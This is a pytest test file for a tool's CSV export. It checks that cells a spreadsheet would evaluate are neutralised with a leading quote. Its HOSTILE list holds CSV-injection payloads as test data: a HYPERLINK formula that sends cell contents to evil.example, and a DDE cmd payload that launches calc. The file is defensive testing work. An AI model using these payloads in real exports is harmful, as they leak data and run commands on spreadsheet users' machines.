"""Every CSV export neutralises cells a spreadsheet would evaluate, as the OWASP "CSV Injection"
guidance describes (issue 29, item 6; docs/security.md, "CSV exports"): read back with the
``csv`` module, a text cell that started with =, +, -, @, tab or CR starts with a ``'``;
numbers stay numbers; ``--raw`` gives the cells as stored."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from trialhouse.csv_cells import neutral

REPO = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]
PLAIN = ["plain", "a=b", "-0.5", "+3", "1e-05"]  # a text that is exactly a number is no formula


def _build(path: Path) -> Path:
    from warehouse import db
    from warehouse.schema import table_from_rows

    run, batch, t0 = "run-1", "b1", datetime(2026, 3, 1, tzinfo=UTC)
    names = HOSTILE + PLAIN
    configs = [{"run_id": run, "config_id": f"c{i:015d}", "variant": v, "model": "m", "harness": "h",
                "harness_version": "1", "simulated": False, "source_format": "trialhouse", "variant_order": i,
                "agent_kind": "simulated", "ingest_batch_id": batch} for i, v in enumerate(names)]
    trials = [{"run_id": run, "trial_id": f"c{i}-{k}", "source_format": "trialhouse", "config_id": f"c{i:015d}",
               "variant": v, "model": "m", "harness": "h", "harness_version": "1", "case_id": f"t{k}",
               "repetition": 1, "outcome": "accepted" if k < 2 else "target_failed", "complete": True,
               "duration_s": 30.0, "cost_usd": 0.01, "simulated": False, "flags": 0, "started_at": t0,
               "ingest_batch_id": batch} for i, v in enumerate(names) for k in range(3)]
    tables = {
        "runs": table_from_rows("runs", [{"run_id": run, "source_format": "trialhouse", "started_at": t0,
                                          "ingest_batch_id": batch}]),
        "configs": table_from_rows("configs", configs),
        "cases": table_from_rows("cases", [{"run_id": run, "case_id": f"t{k}", "holdout": False,
                                            "ingest_batch_id": batch} for k in range(3)]),
        "trials": table_from_rows("trials", trials),
    }
    with db.write_lock(path):
        db.replace_run(path, run, tables)
        db.open(path).close()
    return path


@pytest.fixture(scope="module")
def wh(tmp_path_factory) -> Path:
    return _build(tmp_path_factory.mktemp("csv export") / "w.duckdb")


def cli(*args: str) -> list[dict[str, str]]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("TRIALHOUSE_")}
    proc = subprocess.run([sys.executable, "-m", "trialhouse", *args], capture_output=True,
                          cwd=REPO, env=env, timeout=120)  # bytes: text mode would turn a CR into a newline
    assert proc.returncode == 0, proc.stderr.decode()
    return list(csv.DictReader(io.StringIO(proc.stdout.decode(), newline="")))


def test_the_rule_itself() -> None:
    assert [neutral(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutral(v) for v in PLAIN] == PLAIN
    assert [neutral(v) for v in (-2.5, 3, None, "")] == [-2.5, 3, None, ""]


@pytest.mark.parametrize("command", [["summarize"], ["sql", "SELECT variant, -1.5 AS delta, count(*) AS n "
                                                              "FROM trials GROUP BY ALL ORDER BY variant"]])
def test_an_exported_csv_read_back_shows_every_formula_neutralised(wh, command) -> None:
    rows = cli(*command, "-w", str(wh), "--csv")
    got = {r["variant"] for r in rows}
    assert got == {"'" + v for v in HOSTILE} | set(PLAIN)
    if command[0] == "sql":
        assert {r["delta"] for r in rows} == {"-1.5"} and {r["n"] for r in rows} == {"3"}
    raw = cli(*command, "-w", str(wh), "--csv", "--raw")
    assert {r["variant"] for r in raw} == set(HOSTILE) | set(PLAIN)


def test_a_column_name_that_is_a_formula_is_neutralised_too(wh) -> None:
    rows = cli("sql", "-w", str(wh), "--csv", 'SELECT 1 AS "=1+1", \'@x\' AS a')
    assert rows == [{"'=1+1": "1", "a": "'@x"}]
